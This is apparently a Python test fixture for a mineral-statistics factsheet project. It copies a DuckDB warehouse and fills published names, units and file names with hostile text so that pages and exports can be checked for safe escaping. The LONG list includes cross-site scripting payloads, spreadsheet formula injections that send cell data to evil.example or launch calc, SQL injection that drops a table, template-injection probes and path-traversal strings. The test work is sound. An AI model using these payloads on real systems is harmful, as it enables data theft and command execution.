"""Text as a hostile publisher would write it, and a warehouse whose every name is such a text."""

from pathlib import Path

import duckdb

# Short enough for the narrowest place of a page, and made of characters that its typeface has.
SHORT = (
    "<b>x</b>",
    '"><i>y</i>',
    "<!-- z",
    "&lt;u&gt;",
    "]]> &#60;",
    "=1+1",
    "+1|cmd!A",
    "@SUM(A1)",
    "-2+3",
    "＝1+2",
    "{{ 7*7 }}",
    "{% raw %}",
    "'; drop --",
    '"; --',
    "../../etc",
    "C:\\x\\y",
    "}*{x:url()",
    "http://h.x",
    "%00%0a",
    "[red]k[/]",
)

# For a place between other words.
NARROW = ("<b>", '"><i', "&lt;", "=1+1", "-2+3", "@A1", "{{7}}", "';--", "../x")

# For places that take any length and any character: cells, attachments, the terminal.
LONG = (
    *SHORT,
    "<script>alert(document.cookie)</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg><image href='file:///etc/passwd'/></svg>",
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+cmd|'/C calc'!A0",
    "-cmd|'/C calc'!A0",
    "@SUM(1+9)*cmd|'/C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '＝HYPERLINK("http://evil.example")',
    "＠SUM(1)",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "'; drop table marts.indicator_values; --",
    "{{ ''.__class__.__mro__ }}",
    "{% include '/etc/passwd' %}",
    "x;background:url(http://evil.example/)",
    "</style><style>@import 'http://evil.example'",
    "a\u202egnp.exe\u202c",
    "a\x00b\x1b[31mc\x07",
    "\x1b]8;;http://evil.example\x1b\\open\x1b]8;;\x1b\\",
    "[link=http://evil.example]open[/link]",
    "a" * 40,
    "\ufeff=1+1",
    "_x003D_1+1",
    "mailto:a@evil.example",
    "internal:Sheet1!A1",
    "file:///etc/passwd",
)

# What pages print of it stands in these columns; sentences with places to fill are the project's own.
_NAMES = ("_ja", "_en")
_OWN = "template_"
# Printed in the hole of a ring, or beside another name.
_NARROW = ("printed_unit", "unit_", "short_", "series_")
_AS_PUBLISHED = ("value_as_published", "unit_as_published", "true_unit")
_OF_FILES = ("file_name", "licence")


def hostile_copy(warehouse: Path, copy: Path, minerals: tuple[str, ...], names: tuple[str, ...]) -> Path:
    """A warehouse of what the pages of some minerals read, every name of which is one of `names`.

    Codes stay what they are. What publishers printed (value, unit, name of the file) is one of LONG.
    """
    with duckdb.connect(str(copy)) as connection:
        connection.execute(f"attach '{warehouse}' as built (read_only)")
        connection.execute("create schema marts; create schema provenance")
        connection.execute(
            "create macro hostile(words, texts) as case when coalesce(words, '') = '' then words "
            "else list_extract(texts, 1 + cast(hash(words) % len(texts) as integer)) end"
        )
        # 1:銅,2:鉛 keeps its shape.
        connection.execute(
            "create macro hostile_list(words, texts) as list_aggregate(list_transform("
            "string_split(words, ','), lambda part: regexp_extract(part, '^[0-9]+:') "
            "|| hostile(part, texts)), 'string_agg', ',')"
        )
        tables = connection.execute(
            "select table_name from duckdb_tables() where database_name = 'built' and schema_name = 'marts' "
            "and (table_name like 'factsheet%' or table_name in "
            "('provenance', 'indicator_headline', 'warehouse_info'))"
        ).fetchall()
        plain = tuple(name for name in names if "," not in name and ":" not in name)
        for (table,) in tables:
            _copy(connection, "marts", table, minerals, names, plain)
        _copy(connection, "provenance", "sources", minerals, names, plain)
        connection.execute("detach built")
    return copy


def _copy(connection, schema: str, table: str, minerals, names, plain) -> None:
    columns = connection.execute(f"describe built.{schema}.{table}").fetchall()
    known = {column for column, *_ in columns}
    chosen = []
    for column, kind, *_ in columns:
        is_own = (
            _OWN in column
            or table == "factsheet_terms"
            or (table, column[:6]) == ("factsheet_rates", "label_")
        )
        if kind != "VARCHAR" or is_own:
            chosen.append(column)
        elif column in _AS_PUBLISHED:
            chosen.append(f"hostile({column}, $long) as {column}")
        elif column.startswith(_NARROW):
            chosen.append(f"hostile({column}, $narrow) as {column}")
        elif column in _OF_FILES:
            chosen.append(f"hostile({column}, $names) as {column}")
        elif column.endswith(_NAMES):
            chosen.append(
                f"case when regexp_matches({column}, '^[0-9]+:') then hostile_list({column}, $plain) "
                f"else hostile({column}, $names) end as {column}"
            )
        else:
            chosen.append(column)
    # The comparison of methods is about all minerals together.
    is_of_some = "mineral_code" in known and not table.startswith("factsheet_method")
    where = "where list_contains($minerals, mineral_code)" if is_of_some else ""
    if "reporter_code" in known and table != "factsheet_reporters":
        where += f"{' and' if where else 'where'} reporter_code in ('JPN', 'WLD')"
    values = {"minerals": list(minerals), "names": list(names), "plain": list(plain), "long": list(LONG)}
    values["narrow"] = list(NARROW)
    statement = (
        f"create table {schema}.{table} as select {', '.join(chosen)} from built.{schema}.{table} {where}"
    )
    connection.execute(statement, {name: value for name, value in values.items() if f"${name}" in statement})
